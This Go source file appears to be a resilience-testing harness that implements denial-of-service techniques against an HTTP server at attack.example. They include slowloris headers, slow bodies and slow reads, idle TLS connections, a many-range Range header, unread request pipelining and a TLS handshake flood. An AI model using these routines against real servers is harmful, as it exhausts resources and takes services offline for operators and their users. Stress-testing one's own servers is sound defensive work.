package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

const (
	dripEvery = time.Second
	bigObject = "/size/8388608?cc=max-age%3D3600" // in memory: watch has asked for it before
)

// drip opens a connection, writes head, and then piece again and again.
func (a *attack) drip(ctx context.Context, i int, head, piece string) {
	c, err := a.dial(ctx, i, a.clear)
	if err != nil {
		return
	}
	defer c.Close()
	tick := time.NewTicker(dripEvery)
	defer tick.Stop()
	for next := head; ; next = piece {
		_, err := io.WriteString(c, next)
		if err == nil {
			err = a.count(1)
		}
		if err != nil {
			_ = a.lost(ctx, err)
			return
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return
		}
	}
}

// slowHeaders never ends a request's fields.
func slowHeaders(a *attack, ctx context.Context) {
	a.each(ctx, a.connections, true, func(i int) {
		a.drip(ctx, i, "GET / HTTP/1.1\r\nHost: attack.example\r\n", "X-A: b\r\n")
	})
}

// slowBody sends a byte of its content a second.
func slowBody(a *attack, ctx context.Context) {
	a.each(ctx, a.connections, true, func(i int) {
		a.drip(ctx, i, "POST /sum HTTP/1.1\r\nHost: attack.example\r\nContent-Length: 100000\r\n\r\n", "x")
	})
}

// slowRead asks for a large object and hardly reads.
func slowRead(a *attack, ctx context.Context) {
	a.each(ctx, a.connections, true, func(i int) { a.readSlowly(ctx, i) })
}

func (a *attack) readSlowly(ctx context.Context, i int) {
	c, err := a.dial(ctx, i, a.clear)
	if err != nil {
		return
	}
	defer c.Close()
	if t, ok := c.(closing).Conn.(*net.TCPConn); ok {
		_ = t.SetReadBuffer(4096)
	}
	_, err = io.WriteString(c, "GET "+bigObject+" HTTP/1.1\r\nHost: attack.example\r\n\r\n")
	buf := make([]byte, 16)
	for err == nil {
		if err = a.count(1); err == nil && !wait(ctx, dripEvery) {
			return
		}
		if err == nil {
			_, err = c.Read(buf)
		}
	}
	_ = a.lost(ctx, err)
}

// idle holds connections that have asked once, every other one with TLS, and
// beside them slow readers.
func idle(a *attack, ctx context.Context) {
	a.each(ctx, a.connections+a.readers, true, func(i int) {
		if i < a.readers {
			a.readSlowly(ctx, i)
		} else {
			a.stay(ctx, i)
		}
	})
}

func (a *attack) stay(ctx context.Context, i int) {
	addr := a.clear
	if i%2 == 1 {
		addr = a.tls
	}
	c, err := a.dial(ctx, i, addr)
	if err != nil {
		return
	}
	defer c.Close()
	if i%2 == 1 {
		t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
		if err := t.HandshakeContext(ctx); err != nil {
			_ = a.lost(ctx, err)
			return
		}
		c = t
	}
	if _, err = io.WriteString(c, "GET /size/1?cc=max-age%3D3600 HTTP/1.1\r\nHost: attack.example\r\n\r\n"); err == nil {
		_ = a.count(1)
		_, err = io.Copy(io.Discard, c) // until somebody closes
	}
	if err == nil {
		err = io.EOF
	}
	_ = a.lost(ctx, err)
}

// rangeBomb asks for as many overlapping ranges of a large object as 32 KiB of
// fields hold.
func rangeBomb(a *attack, ctx context.Context) {
	request := "GET " + bigObject + " HTTP/1.1\r\nHost: attack.example\r\nRange: bytes=0-" + strings.Repeat(",0-", 10_000) + "\r\n\r\n"
	a.asking(ctx, request)
}

// asking sends one request after the other and reads the responses.
func (a *attack) asking(ctx context.Context, request string) {
	a.each(ctx, a.connections, false, func(i int) {
		a.again(ctx, func() error {
			c, err := a.dial(ctx, i, a.clear)
			if err != nil {
				return err
			}
			defer c.Close()
			in := bufio.NewReader(c)
			for {
				if err := a.ask(c, in, request); err != nil {
					return a.lost(ctx, err)
				}
			}
		})
	})
}

func (a *attack) ask(c io.Writer, in *bufio.Reader, request string) error {
	if _, err := io.WriteString(c, request); err != nil {
		return err
	}
	if err := a.count(1); err != nil {
		return err
	}
	resp, err := http.ReadResponse(in, nil)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return err
	}
	if resp.Close {
		return errors.New("closed after a response")
	}
	return nil
}

// pipeline sends requests without waiting for responses; every other connection
// does not even read them.
func pipeline(a *attack, ctx context.Context) {
	const batch = 256
	requests := strings.Repeat("GET /size/1024?cc=max-age%3D3600&attack HTTP/1.1\r\nHost: attack.example\r\n\r\n", batch)
	a.each(ctx, a.connections, false, func(i int) {
		a.again(ctx, func() error {
			c, err := a.dial(ctx, i, a.clear)
			if err != nil {
				return err
			}
			defer c.Close()
			if i%2 == 0 {
				go func() { _, _ = io.Copy(io.Discard, c) }() // ends with c
			}
			for {
				_, err := io.WriteString(c, requests)
				if err == nil {
					err = a.count(batch)
				}
				if err != nil {
					return a.lost(ctx, err)
				}
			}
		})
	})
}

// handshakes does one TLS handshake after the other, without resumption.
func handshakes(a *attack, ctx context.Context) {
	conf := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}
	a.each(ctx, a.connections, false, func(i int) {
		for ctx.Err() == nil {
			c, err := a.dial(ctx, i, a.tls)
			if err != nil {
				return
			}
			if err = tls.Client(c, conf).HandshakeContext(ctx); err == nil {
				err = a.count(1)
			} else {
				_ = a.lost(ctx, fmt.Errorf("handshake: %w", err))
			}
			_ = c.Close()
			if errors.Is(err, errSpent) {
				return
			}
		}
	})
}
